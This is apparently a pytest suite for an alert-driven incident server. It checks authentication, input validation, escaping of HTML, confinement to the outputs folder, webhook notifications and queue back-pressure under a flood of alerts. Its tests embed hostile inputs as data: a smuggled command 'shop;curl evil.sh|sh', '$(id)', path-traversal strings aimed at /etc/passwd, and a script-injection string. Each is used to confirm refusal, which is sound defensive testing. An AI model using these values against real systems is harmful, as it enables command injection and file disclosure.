"""The server over real HTTP, in this process, with tiny scenario notebooks run on real kernels:
bad input refused with nothing run, the token, an incident's runs and messages, the pages (escaped,
no way out of the outputs folder), the metrics; and a flood of 1,000 alerts against a small queue
(503s, nothing lost)."""

from __future__ import annotations

import concurrent.futures
import http.client
import json
import os
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from evidence.helpers import screenshot

from incidentlib.errors import InvalidParameter
from incidentlib.evidence import verify
from incidentlib.serve import AlertServer, Catalog, Options, Routing

from .helpers import alert, get, make_notebooks, payload, post, wait_for

pytestmark = pytest.mark.notebook
TOKEN = "s3cret-token-for-the-tests-0123"


@pytest.fixture(scope="module")
def notebooks(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_notebooks(tmp_path_factory.mktemp("notebooks"))


class Channel:
    """A chat's incoming webhook on loopback: keeps what is posted to it."""

    def __init__(self) -> None:
        posted = self.posted = []

        class Hook(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                posted.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Hook)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}/services/T0/B0/secret-path"


@pytest.fixture(scope="module")
def channel() -> Iterator[Channel]:
    chan = Channel()
    yield chan
    chan.http.shutdown()
    chan.http.server_close()


@pytest.fixture(scope="module")
def server(
    notebooks: Path, channel: Channel, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[AlertServer]:
    out = tmp_path_factory.mktemp("outputs")
    srv = AlertServer(
        Options(
            outputs=out,
            catalog=Catalog(notebooks),
            routing=Routing(),
            port=0,
            token=TOKEN,
            workers=1,
            warm_kernels=1,
            evidence_base_url="https://evidence.example.com/runbook",
            notify_webhook=channel.url,
        )
    ).start()
    yield srv
    srv.stop(wait=60)


def journal_lines(srv: AlertServer) -> int:
    return len(srv.journal.path.read_text().splitlines())


def test_bad_input_is_refused_and_nothing_runs(server: AlertServer) -> None:
    before = journal_lines(server)
    good = payload(alert(namespace="shop"))
    assert post(server.url, good)[0] == 401  # no token
    status, reply, headers = post(server.url, good, token="wrong-token-of-the-right-length")
    assert status == 401 and headers["WWW-Authenticate"].startswith("Bearer")
    status, reply, _ = post(server.url, b'{"version": "4", "alerts": [', token=TOKEN)
    assert status == 400 and "not JSON" in reply["error"]
    missing = payload(alert(namespace="shop"))
    del missing["alerts"][0]["startsAt"]
    status, reply, _ = post(server.url, missing, token=TOKEN)
    assert (status, reply["error"]) == (400, "alerts[0].startsAt is missing")
    for hostile in ("../../etc/passwd", "shop;curl evil.sh|sh", "$(id)"):
        status, reply, _ = post(server.url, payload(alert(namespace=hostile)), token=TOKEN)
        assert status == 400 and "cannot become parameter 'namespace'" in reply["error"]
    # a body too large is refused from its length alone, before it is read
    conn = http.client.HTTPConnection("127.0.0.1", int(server.url.rsplit(":", 1)[1]), timeout=10)
    conn.putrequest("POST", "/alerts")
    conn.putheader("Authorization", f"Bearer {TOKEN}")
    conn.putheader("Content-Length", str(5 << 20))
    conn.endheaders()
    assert conn.getresponse().status == 413
    conn.close()
    assert journal_lines(server) == before and server.state.jobs == {}
    metrics = get(server.url + "/metrics")[1].decode()
    assert (
        'runbook_serve_notifications_total{outcome="unauthorized",status="unknown"} 2.0' in metrics
    )
    assert 'runbook_serve_notifications_total{outcome="rejected",status="firing"} 3.0' in metrics


def test_a_loopback_server_may_go_without_a_token_and_no_other(
    notebooks: Path, tmp_path: Path
) -> None:
    with pytest.raises(InvalidParameter, match="listening on 0.0.0.0 needs a token"):
        Options(
            outputs=tmp_path, catalog=Catalog(notebooks), routing=Routing(), host="0.0.0.0"
        ).check()
    Options(outputs=tmp_path, catalog=Catalog(notebooks), routing=Routing(), host="::1").check()


def test_an_alert_opens_an_incident_whose_evidence_is_archived_and_served(
    server: AlertServer, channel: Channel, tmp_path: Path, chromium: str
) -> None:
    hostile = "<script>alert(1)</script>"
    first = alert(namespace="shop", deployment="cart")
    first["annotations"]["summary"] = hostile
    raw = payload(first)
    raw["groupLabels"]["team"] = hostile  # shown on the index: escaped
    status, reply, _ = post(server.url, raw, token=TOKEN)
    assert status == 200 and reply["runs"] == ["triage", "performance"]
    incident = reply["incident"]
    inc = server.state.incidents[incident]
    wait_for(lambda: len(inc.messages) == 1, what="the triage run and its message")
    wait_for(lambda: all(server.state.jobs[j].state == "done" for j in inc.jobs), what="runs")
    runs = [server.state.jobs[j] for j in inc.jobs]
    assert [(r.scenario, r.status) for r in runs] == [("triage", "ok"), ("performance", "ok")]
    assert all(r.warm for r in runs[:1])  # the first ran in the kernel started ahead
    # on unix sockets in a private directory, not TCP (issue 19): what its kernel said
    assert "transport: ipc" in (server.o.outputs / str(runs[0].notebook)).read_text()
    message = inc.messages[0]["text"]
    assert message.startswith(f"🚨 INCIDENT [{incident}]: cart in shop fails")
    link = f"https://evidence.example.com/runbook/{incident}/{runs[0].run_id}.html"
    assert message.endswith(f"Evidence: {link}")
    assert channel.posted[0] == {"text": message}  # posted once, by the server
    assert inc.messages[0]["posted"].startswith("✓ notification posted to http://127.0.0.1:")
    assert verify(server.o.outputs / incident).ok
    # resolved: the recovery run, against the first performance run, and the resolution
    post(
        server.url,
        payload(alert(status="resolved", namespace="shop", deployment="cart")),
        token=TOKEN,
    )
    wait_for(lambda: len(inc.messages) == 2, what="the resolution")
    recovery = server.state.jobs[inc.jobs[-1]]
    assert recovery.kind == "recovery" and recovery.status == "ok"
    text = (server.o.outputs / str(recovery.notebook)).read_text()
    assert f"baseline={server.o.outputs / str(runs[1].notebook)}" in text
    assert "apply=False" in text
    resolution = inc.messages[1]["text"]
    assert f"✅ RESOLVED [{incident}]" in resolution
    assert "Recovery verification: RECOVERED (error rate 50.0% -> 0.0%)" in resolution
    assert [p["text"] for p in channel.posted] == [message, resolution]
    assert verify(server.o.outputs / incident).ok
    # the index: escaped, links to the evidence
    assert get(server.url + "/")[0] == 401
    status, page, headers = get(server.url + "/", token=TOKEN)
    html = page.decode()
    assert status == 200 and "script-src" not in headers["Content-Security-Policy"]
    assert hostile not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert f'href="/evidence/{incident}/{runs[0].run_id}.html"' in html
    status, evidence, headers = get(
        f"{server.url}/evidence/{incident}/{runs[0].run_id}.html", token=TOKEN
    )
    assert status == 200 and evidence == (server.o.outputs / str(runs[0].html)).read_bytes()
    assert "img-src data:" in headers["Content-Security-Policy"]
    # no way out of the outputs folder
    (server.o.outputs / incident / "link.html").symlink_to("/etc/hostname")
    for tail in (
        "../../etc/passwd",
        "%2e%2e/%2e%2e/etc/passwd",
        f"{incident}/..%2f..%2fx.html",
        f"{incident}/link.html",
        ".serve/journal.jsonl",
        f"{incident}/.manifest.lock",
        f"..%2f{incident}/manifest.json",
    ):
        assert get(f"{server.url}/evidence/{tail}", token=TOKEN)[0] == 404, tail
    (server.o.outputs / incident / "link.html").unlink()
    # what a person sees (saved for a look; the page allows no script, so none ran)
    saved = tmp_path / "index.html"
    saved.write_bytes(page)
    screenshot(chromium, saved, tmp_path / "index.png", size="1280,1400")
    if os.environ.get("RUNBOOK_KEEP_SCREENSHOTS"):
        Path(os.environ["RUNBOOK_KEEP_SCREENSHOTS"]).write_bytes(
            (tmp_path / "index.png").read_bytes()
        )
    # the pages that say how it is
    assert get(server.url + "/healthz")[:2] == (200, b"ok\n")
    status, ready, _ = get(server.url + "/readyz")
    assert status == 200 and ready.startswith(b"ready: 1 workers")
    metrics = get(server.url + "/metrics")[1].decode()
    assert 'runbook_serve_runs_total{scenario="performance",status="ok"} 2.0' in metrics
    assert 'runbook_serve_receipt_to_evidence_seconds_count{scenario="triage"} 1.0' in metrics
    assert "runbook_serve_queue_depth 0.0" in metrics


def test_a_flood_of_alerts_is_bounded_and_nothing_is_lost(notebooks: Path, tmp_path: Path) -> None:
    """1,000 alerts in 10 groups, posted 20 at a time against a queue of 3 runs and 1 worker:
    503s with Retry-After while it is full; retried (as Alertmanager does) until taken; in the end
    every alert of every accepted post ran or was recorded as deduplicated."""
    srv = AlertServer(
        Options(
            outputs=tmp_path,
            catalog=Catalog(notebooks, {}),
            routing=Routing(),
            port=0,
            workers=1,
            warm_kernels=1,
            queue_size=3,
        )
    ).start()
    depth: list[float] = []
    try:
        posts = [
            payload(
                alert("FloodTest", fingerprint=f"{g:02x}{n:04x}", namespace=f"ns-{g}"),
                group=f"flood-{g}",
            )
            for n in range(100)
            for g in range(10)
        ]

        def send(raw: dict) -> tuple[int, int]:
            busy = 0
            while True:
                status, reply, headers = post(srv.url, raw)
                if status != 503:
                    return status, busy
                assert int(headers["Retry-After"]) >= 5
                busy += 1
                time.sleep(0.2)  # Alertmanager backs off; the test does not wait that long

        with concurrent.futures.ThreadPoolExecutor(20) as pool:
            futures = [pool.submit(send, p) for p in posts]
            while not all(f.done() for f in futures):
                depth.append(
                    srv.metrics.registry.get_sample_value("runbook_serve_queue_depth") or 0.0
                )
                time.sleep(0.05)
        results = [f.result() for f in futures]
        assert {s for s, _ in results} == {200}
        assert sum(b for _, b in results) > 0, "the queue never filled: the test proves nothing"
        assert max(depth) <= 3
        wait_for(
            lambda: all(j.state == "done" for j in srv.state.jobs.values()),
            timeout=300,
            what="every run",
        )
        incidents = list(srv.state.incidents.values())
        assert len(incidents) == 10
        alerts = sum(len(i.alerts) for i in incidents)
        ran = sum(len(i.jobs) for i in incidents)
        assert alerts == 1000 and ran == 10  # one triage each: FloodTest routes nowhere else
        assert sum(i.deduplicated for i in incidents) == 990
        assert all(srv.state.jobs[i.jobs[0]].status == "ok" for i in incidents)
        records = [json.loads(x) for x in srv.journal.path.read_text().splitlines()]
        assert sum(1 for r in records if r["type"] == "notification") == 1000
    finally:
        srv.stop(wait=60)
